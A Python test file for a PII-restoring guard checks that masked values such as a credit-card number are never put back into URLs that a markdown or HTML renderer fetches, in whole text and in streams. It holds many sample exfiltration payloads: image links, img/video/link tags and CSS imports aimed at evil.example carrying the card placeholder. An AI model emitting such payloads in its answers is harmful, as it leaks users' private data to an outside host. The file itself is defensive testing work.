"""No value goes into a fetched URL, whatever its length or shape, in whole text and streams.

Before: a stream kept only the last 1,024 characters it passed on as context, so a placeholder
more than that after the ``![`` of an image (a long URL, a long tag) was restored into the
URL; and the whole-text reader missed CommonMark images and HTML that a renderer fetches: an
alt text with a line break or over 1,000 characters, a destination after a line break, in
``<…>`` with a space, with ``\\)``; a reference definition in a block quote or with its URL on
the next line; ``<img/src=…>``, an unquoted value around a placeholder, ``<img alt=x <a
src=…>`` (one tag in a browser), ``<a href=x'y><img src=…>`` (the quote opens nothing),
``@import``.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardwire import Context
from guardwire.guards.pii import PIIRestorer

CARD = "4111111111111111"
NAME = "Ada Lovelace"


def make_ctx() -> Context:
    ctx = Context()
    ctx.vault.put("<CREDIT_CARD_1>", CARD)
    ctx.vault.put("<PERSON_1>", NAME)
    return ctx


def whole(text: str, guard: PIIRestorer | None = None) -> str:
    d = (guard or PIIRestorer())(text, make_ctx())
    return text if d.text is None else d.text


def streamed(text: str, size: int, guard: PIIRestorer | None = None) -> str:
    proc = (guard or PIIRestorer()).start_stream(make_ctx())
    out = [proc.feed(text[i:i + size]) for i in range(0, len(text), size)]
    return "".join(out) + proc.flush()


EVIL = "https://evil.example/?d="
FETCHED = [
    f"![a\nb]({EVIL}<CREDIT_CARD_1>)",  # a line break in the alt text
    f"![a](\n{EVIL}<CREDIT_CARD_1>)",  # the destination on the next line
    f"![a](<{EVIL} <CREDIT_CARD_1>>)",  # <…> destination with a space
    f"![a]({EVIL}x\\)<CREDIT_CARD_1>)",  # an escaped parenthesis
    f"![a]({EVIL}((x))<CREDIT_CARD_1>)",  # balanced parentheses
    "![" + "b" * 1100 + f"]({EVIL}<CREDIT_CARD_1>)",  # a long alt text
    "![a [b [c]] d](" + EVIL + "<CREDIT_CARD_1>)",  # nested deeper
    f"![a][r]\n\n[r]:\n{EVIL}<CREDIT_CARD_1>",  # reference URL on the next line
    f"![a][r x]\n\n[r\nx]: {EVIL}<CREDIT_CARD_1>",  # a label with a line break
    f"> ![a][r]\n>\n> [r]: {EVIL}<CREDIT_CARD_1>",  # in a block quote
    f'<img/src="{EVIL}<CREDIT_CARD_1>">',
    f"<video poster={EVIL}<CREDIT_CARD_1>>",  # unquoted, the placeholder's ">" ends it
    "<video poster=x'<CREDIT_CARD_1>>",
    f"<img alt=x <a src={EVIL}<CREDIT_CARD_1>>",  # one <img> tag in a browser
    f"<a href=x'y><img src={EVIL}<CREDIT_CARD_1>>",  # a quote inside a value opens nothing
    f"<a href=alt='- <b>\n<link href={EVIL}<CREDIT_CARD_1>'>",  # nor after an "=" in it
    f"<style>@import '{EVIL}<CREDIT_CARD_1>';</style>",
]


@pytest.mark.parametrize("text", FETCHED)
def test_fetched_constructs_keep_their_placeholders(text: str) -> None:
    assert CARD not in whole(text)
    for size in (1, 7, 64):
        assert CARD not in streamed(text, size)


LONG = "a" * 5000
LONG_SPACED = "a " * 2500


@pytest.mark.parametrize("text", [
    f"Hi <PERSON_1> ![s]({EVIL}{LONG}&c=<CREDIT_CARD_1>) bye <PERSON_1>",
    f'Hi <PERSON_1> <img alt="x" src="{EVIL}{LONG_SPACED}<CREDIT_CARD_1>"> bye <PERSON_1>',
    f'Hi <PERSON_1> <img alt="{LONG_SPACED}" src="{EVIL}<CREDIT_CARD_1>"> bye <PERSON_1>',
    f"Hi <PERSON_1> <img {LONG_SPACED} src={EVIL}<CREDIT_CARD_1>> bye <PERSON_1>",
    f"Hi <PERSON_1> ![a](<{EVIL}{LONG_SPACED}<CREDIT_CARD_1>>) bye <PERSON_1>",
    f"Hi <PERSON_1> ![a]({EVIL}{'(' * 3}{LONG}){')' * 2}<CREDIT_CARD_1>) bye <PERSON_1>",
    f"Hi <PERSON_1>\n[r]: {EVIL}{LONG}<CREDIT_CARD_1>\n bye <PERSON_1>",
    f"Hi <PERSON_1> <div style=\"background: url('{EVIL}{LONG}<CREDIT_CARD_1>')\"> <PERSON_1>",
    f"Hi <PERSON_1> ![a](   {' ' * 3000}{EVIL}<CREDIT_CARD_1>) bye <PERSON_1>",
])
@pytest.mark.parametrize("size", [1, 5, 100, 4000])
def test_a_stream_keeps_a_placeholder_far_behind_its_url_opening(text: str, size: int) -> None:
    want = whole(text)
    assert CARD not in want and want.count(NAME) == 2
    assert streamed(text, size) == want


def test_ordinary_long_answers_are_restored_alike_in_streams() -> None:
    para = "Dear <PERSON_1>, thanks for asking about lists (and tuples). " * 40
    links = "See [the docs](https://docs.example/?who=<PERSON_1>) and ![c](c.png). " * 40
    code = "```python\nfor x in a[1:]:\n    print(x)\nitems[0]: <PERSON_1>\n```\n"
    text = f"{para}\n\n{links}\n\n{code}\n{para}"
    want = whole(text)
    assert "<PERSON_1>" not in want
    for size in (1, 5, 64, 3000):
        assert streamed(text, size) == want


_FETCH_ATTRS = {"src", "srcset", "data-src", "lowsrc", "poster", "data", "background"}


def fetched_urls(answer: str) -> list[str]:
    """The URLs a browser fetches on display (as far as attributes go) when ``answer`` is
    rendered as CommonMark (raw HTML passed through) or shown as HTML."""
    import html5lib  # parses as a browser does (dev extra: a missing one fails, never skips)
    import markdown_it
    urls = []
    for html in (markdown_it.MarkdownIt("commonmark").render(answer), answer):
        for el in html5lib.parse(html, namespaceHTMLElements=False).iter():
            tag = el.tag.lower() if isinstance(el.tag, str) else ""
            for key, value in el.attrib.items():
                key = (key if isinstance(key, str) else key[-1]).lower()
                if ((key in _FETCH_ATTRS and tag not in ("a", "area"))
                        or (key == "href" and tag in ("link", "image", "use"))
                        or (key == "style" and "url(" in value)):
                    urls.append(value)
    return urls


PIECES = ["![a](", "[b](", "](", "<img ", "src=", 'src="', "alt='", '"', "'", " ", "\n",
          "\n\n", "(", ")", "\\", "<CREDIT_CARD_1>", "<PERSON_1>", "url(", "@import ",
          "https://e.example/", "[r]:", "\n[r]: ", ">", "<", "/", "=", "[", "]", "![r]", "> ",
          "<a href=", "<video poster=", "<p>", "![a][r]\n\n", "- ", "<h1>", "<br/>"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(PIECES),
                          st.builds(lambda c, n: c * n, st.sampled_from("x- "),
                                    st.integers(600, 1500))), max_size=20),
       st.sampled_from([1, 3, 50, 700]))
def test_no_value_in_a_url_a_renderer_fetches(parts: list[str], size: int) -> None:
    """Rendered as CommonMark (raw HTML passed through) or as HTML: no restored value is in
    a URL fetched on display, neither in the whole text nor in a stream."""
    text = "".join(parts)
    for answer in (whole(text), streamed(text, size)):
        assert not [u for u in fetched_urls(answer) if CARD in u or NAME in u
                    or NAME.replace(" ", "%20") in u]
